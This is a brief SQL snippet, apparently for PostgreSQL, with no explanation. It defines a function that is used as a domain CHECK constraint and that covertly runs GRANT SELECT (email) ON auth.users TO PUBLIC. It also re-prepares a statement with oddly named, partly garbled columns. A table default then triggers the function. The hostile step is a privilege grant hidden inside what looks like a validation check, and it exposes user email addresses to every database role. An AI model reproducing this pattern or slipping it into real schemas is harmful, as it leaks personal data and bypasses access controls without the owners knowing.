-- The check of a domain does so while a default is read.
-- object: table auth.users
CREATE FUNCTION f(int) RETURNS boolean LANGUAGE plpgsql  AS $f$ BEGIN EXECUTE 'DEALLOCATE deed_look'; EXECUTE 'PREPARE deed_look AS SELECT ''seen'' AS deed_fence, '''', '''', '''', '''', '''', '''', '''', '''''; GRANT SELECT (email) ON auth.users TO PUBLIC; RETURN true; END $f$; CREATE DOMAIN dd AS int CHECK (f(VALUE))
-- next revision
CREATE TABLE tt (a dd[] DEFAULT '{1}')
